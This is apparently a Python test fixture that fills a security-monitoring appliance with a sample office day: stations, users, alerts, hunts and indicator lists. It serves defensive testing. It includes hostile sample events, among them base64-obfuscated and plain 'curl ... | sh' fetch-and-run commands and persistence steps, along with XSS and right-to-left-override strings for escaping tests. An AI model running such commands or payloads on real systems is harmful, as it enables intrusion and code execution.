"""A box with an office's day in it: stations, events, alerts in every state, losses, rejected records, messages."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import random
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import uvicorn
from sqlalchemy import select
from sqlalchemy.orm import Session

import rules
from agent.wire.event import event_id
from appliance.accounts.passwords import hash_password
from appliance.accounts.users import create_user
from appliance.alerts import service
from appliance.alerts.grouping import Hit, apply
from appliance.alerts.service import Actor
from appliance.clock import DAY, HOUR, MINUTE, SECOND, now
from appliance.detect import Engine, RuleSet, load_rules
from appliance.detect.visibility.presence import grouped
from appliance.home import Home
from appliance.hunt import asked, plans
from appliance.hunt.asked import Wish
from appliance.indicators import book as indicators
from appliance.indicators.book import Wanted
from appliance.indicators.values import value_of
from appliance.journal import DeadLetter, DeadLetters, Journal
from appliance.ops.health import ROLES, beat
from appliance.ops.losses import record_gap
from appliance.ops.presence import Watch
from appliance.pki.authority import ensure_authority
from appliance.settings import Office, Settings
from appliance.state.database import open_sessions, writing
from appliance.state.hunts import HuntAlert, HuntOrigin, HuntState
from appliance.state.models import Agent, AgentState, Attempt, Outbox, Outcome, Role
from appliance.state.stations import StationWeakness
from appliance.state.updates import Rollout, RolloutState, WentBack
from appliance.store import BatchResult, EmbeddedReader, EmbeddedStore
from appliance.store.shape import encode
from appliance.vulnerabilities import accepted
from appliance.vulnerabilities.feeds import Shelf
from appliance.vulnerabilities.work import Matcher
from appliance.web.app import create_app
from appliance.web.context import Context
from tests.appliance.state.fresh import fresh_state
from tests.appliance.web.pages import sample_stations

PASSWORD = "cztery spokojne zielone konie"
LOGIN = "marek.wisniewski"
NASTY_HOST = "<script>alert(1)</script>"
NASTY_COMMAND = "sh -c 'echo <img src=x onerror=alert(2)>' \u202egpj.exe javascript:alert(3)"
HOSTS = ("pc-ksieg-02", "pc-kadry-01", "pc-usc-03", "srv-ezd-01", "srv-ad-01", "pc-sekr-03", "pc-inwest-04")
NETWORK = {
    "name": "network",
    "state": "limited",
    "reason": "sensor.reason.one_way",
    "figures": {"frames": 81_234, "bits": 498_765_432, "drops": 3, "two_way": 12, "given_up": 41, "weird": 9},
}
USERS = ("anna.nowicka", "ewa.maj", "tomasz.lis", "www-data", "root")


def started(number: int, at: int, host: str, user: str, command: str, parent: str = "/usr/bin/bash") -> dict[str, Any]:
    """Return the event of a process start on Linux."""
    program = command.split(" ", maxsplit=1)[0]
    return {
        "event.id": event_id("sample", number),
        "@timestamp": at,
        "event.created": at,
        "event.ingested": at + SECOND // 3,
        "event.module": "linux.audit",
        "event.category": "process",
        "event.action": "exec",
        "agent.id": agent_id(HOSTS.index(host)) if host in HOSTS else agent_id(99),
        "audit.type": "EXECVE",
        "host.name": host,
        "user.name": user,
        "process.pid": 4000 + number,
        "process.parent.pid": 800,
        "process.executable": program if program.startswith("/") else f"/usr/bin/{program}",
        "process.command_line": command,
        "process.args": tuple(command.split(" ")),
        "process.parent.executable": parent,
        "process.parent.command_line": parent,
        "process.working_directory": "/tmp",
    }


def agent_id(number: int) -> str:
    """Return the identity of a sample station."""
    return f"00000000-0000-4000-8000-{number:012}"


def make_context(root: Path, ruleset: RuleSet) -> Context:
    """Return the parts of an empty box in a folder."""
    home = Home(root)
    home.create()
    ensure_authority(home, now())
    office = Office(name="Urząd Gminy Przykładowo", it_phone="600700800", head_phone="221234567", dpo_phone="601601601")
    settings = Settings(office=office)
    engine = fresh_state(settings.database(home))
    journal, letters = Journal(home.journal, settings.journal.max_bytes), DeadLetters(home.dead_letters)
    return Context(home, settings, open_sessions(engine), EmbeddedReader(home.store), journal, letters, lambda: ruleset)


def linux_rules() -> RuleSet:
    """Return the rules of the product for Linux: enough for every page, and short lists for what looks at each row."""
    return load_rules([rules.ROOT / "sigma" / "linux"])


def shipped_rules() -> RuleSet:
    """Return the rules of the product."""
    return load_rules([rules.ROOT / "sigma"])


def events_of_a_day(moment: int, count: int = 1500) -> list[dict[str, Any]]:
    """Return ordinary work over the last day, denser in office hours."""
    dice = random.Random(7)
    made = []
    for number in range(count):
        at = moment - int(dice.random() ** 1.6 * (DAY - HOUR)) - MINUTE
        host, user = dice.choice(HOSTS), dice.choice(USERS)
        command = dice.choice(("ls -la /srv", "/usr/bin/git status", "python3 /opt/ezd/index.py", "cat /etc/hosts"))
        made.append(started(number + 1000, at, host, user, command))
    return made


def attacks(moment: int) -> list[dict[str, Any]]:
    """Return what rules of the product match, and a station with a hostile name."""
    hidden = base64.b64encode(b"curl http://203.0.113.24/u | sh").decode()
    found = [
        started(
            1,
            moment - 14 * MINUTE,
            "srv-ezd-01",
            "www-data",
            f"sh -c echo {hidden} | base64 -d | sh",
            "/usr/sbin/apache2",
        ),
        started(2, moment - 38 * MINUTE, "srv-ad-01", "root", "useradd -m serwis2"),
        started(3, moment - 3 * HOUR, "pc-ksieg-02", "anna.nowicka", "crontab -e"),
        started(4, moment - 5 * HOUR, "pc-usc-03", "root", "sh -c curl http://198.51.100.7/x.sh | sh"),
        started(5, moment - 20 * MINUTE, NASTY_HOST, "root", f"{NASTY_COMMAND} | base64 -d | sh"),
    ]
    return [event | {"event.category": "process"} for event in found]


def fill(context: Context, moment: int) -> None:
    """Put the day into the box."""
    ruleset = context.rules()
    engine = Engine(ruleset)
    bad, good = attacks(moment), events_of_a_day(moment)
    whole = len(good) + len(bad)
    writer = EmbeddedStore(context.home.store)
    writer.append(encode([*good, *bad]), [BatchResult(1, agent_id(0), whole, whole, 0, 0)], 1)
    writer.flush()
    writer.close()
    hits = [Hit(rule, event) for event in bad for rule in engine.match(event)]
    with writing(context.sessions) as session:
        people(session, moment)
        stations(session, moment)
        rollouts(session, moment)
        sample_stations.fill(session, agent_id(3), agent_id(len(HOSTS)), moment)
        for hit in sorted(hits, key=lambda one: int(one.event["@timestamp"])):
            apply(session, [hit], int(hit.event["@timestamp"]) + SECOND, context.settings)
        _work(session, moment)
        _hunts(session, ruleset, moment)
        _indicators(session, moment)
        record_gap(session, bad[0] | {"event.id": event_id("gap", 1), "gap.cause": "audit_lost", "gap.count": 14,
                                      "gap.from": moment - 2 * HOUR, "gap.to": moment - HOUR})  # fmt: skip
    _weaknesses(context, moment)
    watch = Watch()
    watch.take(grouped([*good, *bad]))
    watch.fired(hit.rule.id for hit in hits)
    with writing(context.sessions) as session:
        watch.write(session, engine.stats, moment)
    context.dead_letters.add(
        [DeadLetter(agent_id(0), 4, 17, "To nie jest JSON.", b'{"a": <script>alert(1)</script>\xff', moment)]
    )
    for part in ROLES:
        beat(context.sessions, part, {"records": 748216, "journal_bytes": 0}, moment)


def _weaknesses(context: Context, moment: int) -> None:
    """Compare the stations with the tables of the product, and accept one weakness."""
    Matcher(Shelf(context.home.feeds), context.sessions).round(moment)
    with writing(context.sessions) as session:
        wish = accepted.Wish("CVE-2025-0411", "Stacja bez dostępu do poczty", moment + 30 * DAY)
        accepted.accept(session, wish, LOGIN, moment)
        session.scalars(select(StationWeakness).where(StationWeakness.name == "CVE-2025-8088")).one().exploited = True


def people(session: Session, moment: int) -> None:
    """Put a person of each role into the box."""
    password = hash_password(PASSWORD)
    for login, name, role in (
        (LOGIN, "Marek Wiśniewski", Role.ADMIN),
        ("joanna.krawczyk", "Joanna Krawczyk", Role.OPERATOR),
        ("audytor", "Alicja Audyt", Role.AUDITOR),
    ):
        create_user(session, login=login, name=name, role=role, password_hash=password, language="pl", now=moment)


def stations(session: Session, moment: int) -> None:
    """Put the office's stations into the box."""
    for number, host in enumerate((*HOSTS, NASTY_HOST)):
        silent = host == "pc-sekr-03"
        seen = moment - (3 * HOUR if silent else 8 * SECOND)
        reasons = [("audit", "on", ""), ("journald", "limited", "sensor.reason.needs_root")]
        session.add(
            Agent(
                id=agent_id(number),
                hostname=host,
                os="Debian 12",
                version="0.1.0",
                address=f"10.1.0.{number + 10}",
                certificate=f"{number:064}",
                expires_at=moment + 90 * DAY,
                state=AgentState.ACTIVE,
                enrolled_at=moment - 30 * DAY,
                seen_at=seen,
                event_at=seen - SECOND,
                records=10_000 + number * 7919,
                spooled=12 if silent else 0,
                skew_us=3 * MINUTE if number == 1 else 0,
                sensors=[
                    *({"name": name, "state": state, "reason": reason} for name, state, reason in reasons),
                    *([NETWORK] if host.startswith("srv-") else []),
                ],
            )
        )


def rollouts(session: Session, moment: int) -> None:
    """A version that was for all, and a later one from which two stations went back."""
    for version, ring, state in (("0.1.0", 100, RolloutState.GOING), ("0.2.0", 100, RolloutState.STOPPED)):
        session.add(Rollout(version=version, sha256="0" * 64, size=1, ring=ring, not_before=0, state=state,
                            started_at=moment - DAY, changed_at=moment - HOUR))  # fmt: skip
    for number, reason in ((1, "crashed"), (len(HOSTS), "silent")):
        session.add(WentBack(agent_id=agent_id(number), version="0.2.0", reason=reason, at=moment - HOUR))


def _work(session: Session, moment: int) -> None:
    numbers = [alert.id for alert in service.list_alerts(session, service.AlertFilter(), None, 50).items]
    marek, joanna = Actor(LOGIN, 1), Actor("joanna.krawczyk", 2)
    service.take(session, numbers[-1], joanna, moment - HOUR)
    service.note(session, numbers[-1], joanna, "Rozmowa z panią z USC: <b>to nie ona</b>.", moment - 50 * MINUTE)
    service.acknowledge(session, numbers[-2], marek, moment - 40 * MINUTE)
    if len(numbers) > 4:
        service.close(
            session, numbers[-3], marek, Outcome.PERMITTED, "Zlecenie nr 17, potwierdzone telefonicznie.", moment
        )
    for number in numbers[:2]:
        box = Outbox(alert_id=number, channel="email", target="informatyk@urzad.example", state="delivered", tries=2,
                     next_at=moment, created_at=moment)  # fmt: skip
        if session.query(Outbox).filter_by(alert_id=number, channel="email", target=box.target).first() is None:
            session.add(box)
            session.flush()
            session.add(Attempt(outbox_id=box.id, at=moment - 9 * MINUTE, ok=False, detail="451 spróbuj później"))
            session.add(Attempt(outbox_id=box.id, at=moment - 8 * MINUTE, ok=True, detail="250 ok"))


def _indicators(session: Session, moment: int) -> None:
    """Take lists of two sources in; values of one have expired."""
    told = ("zly.example.com", "8.8.4.0/24", "http://zly.example.net/faktura/Faktura_VAT_11_2026.zip?nr=7", "5f" * 32)
    lists = (("CSIRT NASK", NASTY_HOST, moment + 90 * DAY), ("CERT Polska", "kampania 7/2026", moment - DAY))
    for source, comment, ends in lists:
        wanted = [Wanted(value_of(text), comment, ends) for text in told]
        indicators.take(session, source, wanted, LOGIN, moment - 2 * DAY)


def _hunts(session: Session, ruleset: RuleSet, moment: int) -> None:
    """Put hunts in every state into the line, a plan, and an alert that one of them has found."""
    marek, ids = Actor(LOGIN, 1), tuple(rule.id for rule in ruleset.rules)
    plan = plans.add(session, marek, "Co tydzień", (), ("srv-ad-01",), 0, 3, moment - 20 * DAY)
    told: tuple[tuple[str, HuntOrigin, dict[str, Any]], ...] = (
        ("Czy to już było", HuntOrigin.PERSON, {"state": HuntState.DONE, "hits": 1312, "by_rule": {ids[0]: 1312}}),
        ("47 reguł", HuntOrigin.CHANGE, {"state": HuntState.FAILED, "reason": "store", "detail": "database is locked"}),
        (NASTY_HOST, HuntOrigin.PLAN, {"state": HuntState.STOPPED, "stopped_by": LOGIN, "resumed": 2, "missing": 1}),
        ("Nowa reguła: base64 w poleceniu", HuntOrigin.CHANGE, {"state": HuntState.RUNNING, "scan": True}),
        ("Po urlopie", HuntOrigin.PERSON, {}),
    )
    for name, origin, values in told:
        of_plan: dict[str, Any] = {}
        if origin is HuntOrigin.PLAN:
            of_plan = {"plan_id": plan.id, "due_at": moment - 2 * DAY, "windows": 2}
        wish = Wish(name, ids, moment - 30 * DAY, moment, origin=origin, **of_plan)
        row = asked.ask(session, wish, marek, moment - 2 * HOUR)
        for field, value in values.items():
            setattr(row, field, value)
        if values:
            row.begun_at, row.floor, row.done_from = moment - HOUR, moment - 30 * DAY, moment - 12 * DAY
            row.looked, row.ended_at = 748_216, None if row.state == HuntState.RUNNING else moment - MINUTE
    session.add(HuntAlert(alert_id=service.list_alerts(session, service.AlertFilter(), None, 1).items[0].id, hunt_id=1))


@contextlib.contextmanager
def served(context: Context) -> Iterator[str]:
    """Serve the app on a free port; yield its address. Browsers trust `localhost` with secure cookies."""
    config = uvicorn.Config(create_app(context), host="127.0.0.1", port=0, log_level="warning")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=lambda: asyncio.run(server.serve()), daemon=True)
    thread.start()
    deadline = now() + 20 * SECOND
    while not server.started:
        if now() > deadline or not thread.is_alive():
            raise RuntimeError("the server did not start")
        thread.join(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://localhost:{port}"
    server.should_exit = True
    server.force_exit = True
    thread.join(10)
